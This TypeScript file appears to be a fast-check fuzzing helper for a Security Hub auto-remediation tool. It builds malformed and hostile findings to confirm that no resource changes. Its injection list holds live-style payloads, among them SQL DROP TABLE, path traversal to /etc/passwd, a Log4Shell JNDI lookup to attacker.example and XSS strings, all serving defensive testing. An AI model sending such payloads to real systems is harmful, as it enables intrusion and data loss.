import fc from 'fast-check';
import { playbookForControls } from '../../tasks/playbooks/registry.js';

/** Accounts of the emulated estate, and one that sends findings but has nothing in it. */
export const ACCOUNTS = ['123456789012', '222222222222'] as const;
export const STRANGER = '999999999999';

/** Controls with a playbook, and the ASFF type each playbook handles. */
export const KNOWN_CONTROLS: Readonly<Record<string, string>> = {
  'S3.8': 'AwsS3Bucket',
  'S3.14': 'AwsS3Bucket',
  'KMS.4': 'AwsKmsKey',
  'SQS.1': 'AwsSqsQueue',
  'DynamoDB.2': 'AwsDynamoDbTable',
  'EC2.19': 'AwsEc2SecurityGroup',
};
const RESOURCE_TYPES = [...new Set(Object.values(KNOWN_CONTROLS)), 'AwsIamUser', 'AwsLambdaFunction', 'Other'];

/** Strings an attacker or a broken integration might put anywhere. */
export const INJECTIONS = [
  "'; DROP TABLE findings;--",
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '${jndi:ldap://attacker.example/a}',
  '${sg}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '" onmouseover="alert(1)',
  '\u0000null\u0000byte',
  '\u202eevil\u202c',
  'ｓ３：：：ｂｕｃｋｅｔ',
  'Ω≈ç√∫˜µ≤≥÷ 😀🔥💥 ﷽',
  '%00%2e%2e%2f',
  'arn:aws:iam::*:role/*',
  ' ',
  '',
] as const;

export const hostileString = (maxLength = 600): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(...INJECTIONS),
    fc.string({ unit: 'grapheme', maxLength: Math.min(maxLength, 200) }),
    fc.string({ unit: 'binary', maxLength: Math.min(maxLength, 200) }),
    fc.string({ minLength: maxLength, maxLength }),
  );

/** Values of the wrong type for any field above (none is a string; objects lack the required keys). */
export const mistyped: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
);

/** Resource ids that name nothing in the estate: injection-like, unicode, malformed ARNs. */
export const junkResourceId: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS).map((s) => `arn:aws:s3:::${s}`),
  fc.constantFrom(...INJECTIONS).map((s) => `arn:aws:kms:us-east-1:123456789012:key/${s}`),
  fc.constantFrom(...INJECTIONS).map((s) => `arn:aws:ec2:us-east-1:123456789012:security-group/${s}`),
  fc.constantFrom(...INJECTIONS).map((s) => `arn:aws:sqs:us-east-1:123456789012:${s}`),
  hostileString(300).filter((s) => s.length > 0),
);

let sequence = 0;

/** A well-formed FAILED control finding (unique id and version per call). */
export function baseFinding(control: string, type: string, resourceId: string, account: string = ACCOUNTS[0]): Record<string, unknown> {
  sequence++;
  return {
    SchemaVersion: '2018-10-08',
    Id: `arn:aws:securityhub:us-east-1:${account}:security-control/${control.slice(0, 40)}/finding/hostile-${sequence}`,
    ProductArn: 'arn:aws:securityhub:us-east-1::product/aws/securityhub',
    GeneratorId: `security-control/${control}`,
    AwsAccountId: account,
    UpdatedAt: new Date(Date.UTC(2026, 10, 1) + sequence * 1000).toISOString(),
    Severity: { Label: 'HIGH' },
    Title: `${control} finding`,
    Compliance: { Status: 'FAILED', SecurityControlId: control },
    Resources: [{ Type: type, Id: resourceId, Partition: 'aws', Region: 'us-east-1' }],
    Workflow: { Status: 'NEW' },
    RecordState: 'ACTIVE',
  };
}

/** Top-level and resource fields ValidateFinding requires. */
const REQUIRED = ['Id', 'ProductArn', 'GeneratorId', 'AwsAccountId', 'UpdatedAt', 'Severity', 'Resources'] as const;
const RESOURCE_REQUIRED = ['Type', 'Id'] as const;

/** What makes a finding hostile; every category must end without a change. */
export type Hostility =
  | { kind: 'missing'; field: string }
  | { kind: 'mistyped'; field: string; value: unknown }
  | { kind: 'huge'; field: 'Title' | 'Description'; size: number }
  | { kind: 'unknownControl'; control: string }
  | { kind: 'wrongType'; control: string; type: string }
  | { kind: 'junkResource'; control: string; id: string }
  | { kind: 'notFailed'; status: string; recordState: string }
  | { kind: 'idForm'; type: 'AwsEc2SecurityGroup' | 'AwsS3Bucket'; form: IdForm };

/** Ways to name a resource other than its canonical ARN (aimed at exempt resources: any slip would change one). */
export const ID_FORMS = ['bare', 'wrongPartition', 'wrongRegion', 'otherAccount', 'encoded', 'mixedCase', 'trailingSlash', 'doubleSlash'] as const;
export type IdForm = (typeof ID_FORMS)[number];

/** The id of `arn` (canonical, in `account`, us-east-1, partition aws) written in one of the {@link ID_FORMS}. */
export function idInForm(arn: string, form: IdForm): string {
  const last = arn.split(/[:/]/).pop()!;
  switch (form) {
    case 'bare':
      return last;
    case 'wrongPartition':
      return arn.replace('arn:aws:', 'arn:aws-us-gov:');
    case 'wrongRegion':
      return arn.startsWith('arn:aws:s3:') ? arn.replace('arn:aws:s3:::', 'arn:aws:s3:eu-west-1::') : arn.replace(':us-east-1:', ':eu-west-1:');
    case 'otherAccount':
      return arn.startsWith('arn:aws:s3:') ? arn.replace('arn:aws:s3:::', `arn:aws:s3::${ACCOUNTS[1]}:`) : arn.replace(/:\d{12}:/, `:${ACCOUNTS[1]}:`);
    case 'encoded':
      return arn.replace(/\/([^/]*)$/, '%2F$1').replace(/:::(.*)$/, ':::%2e%2e%2F$1');
    case 'mixedCase':
      return arn.slice(0, -last.length) + last.toUpperCase();
    case 'trailingSlash':
      return `${arn}/`;
    case 'doubleSlash':
      return arn.includes('/') ? arn.replace('/', '//') : arn.replace(':::', ':::/');
  }
}

export const hostility: fc.Arbitrary<Hostility> = fc.oneof(
  fc.constantFrom(...REQUIRED, ...RESOURCE_REQUIRED.map((f) => `Resources.0.${f}`), 'Severity.Label').map((field) => ({ kind: 'missing' as const, field })),
  fc
    .record({ field: fc.constantFrom(...REQUIRED, 'Severity.Label', 'Resources.0.Id', 'Resources.0.Type', 'Compliance.SecurityControlId'), value: mistyped })
    .map(({ field, value }) => ({ kind: 'mistyped' as const, field, value })),
  fc.record({ field: fc.constantFrom('Title' as const, 'Description' as const), size: fc.constantFrom(10_000, 100_000, 300_000) }).map((h) => ({ kind: 'huge' as const, ...h })),
  hostileString(120)
    .filter((c) => c.trim() !== '' && playbookForControls([c]) === undefined)
    .map((control) => ({ kind: 'unknownControl' as const, control })),
  fc
    .record({ control: fc.constantFrom(...Object.keys(KNOWN_CONTROLS)), type: fc.constantFrom(...RESOURCE_TYPES) })
    .filter(({ control, type }) => KNOWN_CONTROLS[control] !== type)
    .map((h) => ({ kind: 'wrongType' as const, ...h })),
  fc.record({ control: fc.constantFrom(...Object.keys(KNOWN_CONTROLS)), id: junkResourceId }).map((h) => ({ kind: 'junkResource' as const, ...h })),
  fc
    .record({ status: fc.constantFrom('PASSED', 'WARNING', 'NOT_AVAILABLE', 'FAILED'), recordState: fc.constantFrom('ARCHIVED', 'ACTIVE') })
    .filter(({ status, recordState }) => status !== 'FAILED' || recordState !== 'ACTIVE')
    .map((h) => ({ kind: 'notFailed' as const, ...h })),
  fc
    .record({ type: fc.constantFrom('AwsEc2SecurityGroup' as const, 'AwsS3Bucket' as const), form: fc.constantFrom(...ID_FORMS) })
    .map((h) => ({ kind: 'idForm' as const, ...h })),
);

/** The control each id-form target is checked under. */
const ID_FORM_CONTROL = { AwsEc2SecurityGroup: 'EC2.19', AwsS3Bucket: 'S3.8' } as const;

function setPath(target: Record<string, unknown>, path: string, value: unknown, remove: boolean): void {
  const keys = path.split('.');
  let node: Record<string, unknown> = target;
  for (const key of keys.slice(0, -1)) {
    const next = node[key];
    if (!next || typeof next !== 'object') return;
    node = next as Record<string, unknown>;
  }
  const last = keys.at(-1)!;
  if (remove) delete node[last];
  else node[last] = value;
}

/**
 * A finding with one hostility, aimed at a real resource of the estate where the hostility
 * allows it (`victims`: ASFF type → ARN), so that a slip would show as a changed resource.
 */
export function hostileFinding(h: Hostility, victims: Readonly<Record<string, string>>, account: string): Record<string, unknown> {
  const anyVictim = (type: string) => victims[type] ?? 'arn:aws:s3:::no-such-bucket';
  switch (h.kind) {
    case 'missing':
    case 'mistyped': {
      const finding = structuredClone(baseFinding('S3.8', 'AwsS3Bucket', anyVictim('AwsS3Bucket'), account));
      setPath(finding, h.field, h.kind === 'mistyped' ? h.value : undefined, h.kind === 'missing');
      return finding;
    }
    case 'huge':
      return { ...baseFinding('KMS.4', 'AwsKmsKey', 'arn:aws:kms:us-east-1:123456789012:key/no-such-key', account), [h.field]: 'A'.repeat(h.size) };
    case 'unknownControl':
      return baseFinding(h.control, 'AwsS3Bucket', anyVictim('AwsS3Bucket'), account);
    case 'wrongType':
      // The real resource of the declared type, under a control whose playbook handles another type.
      return baseFinding(h.control, h.type, anyVictim(h.type), account);
    case 'junkResource':
      return baseFinding(h.control, KNOWN_CONTROLS[h.control]!, h.id, account);
    case 'idForm': {
      // The exempt victim of the type (tagged rectify:exempt=*), named in another form than its ARN.
      const target = victims[`exempt:${h.type}`] ?? (h.type === 'AwsS3Bucket' ? 'arn:aws:s3:::paper-exempt-bucket' : `arn:aws:ec2:us-east-1:${account}:security-group/sg-0123456789abcdef0`);
      return baseFinding(ID_FORM_CONTROL[h.type], h.type, idInForm(target, h.form), account);
    }
    case 'notFailed': {
      const finding = baseFinding('S3.8', 'AwsS3Bucket', anyVictim('AwsS3Bucket'), account);
      return { ...finding, Compliance: { Status: h.status, SecurityControlId: 'S3.8' }, RecordState: h.recordState };
    }
  }
}
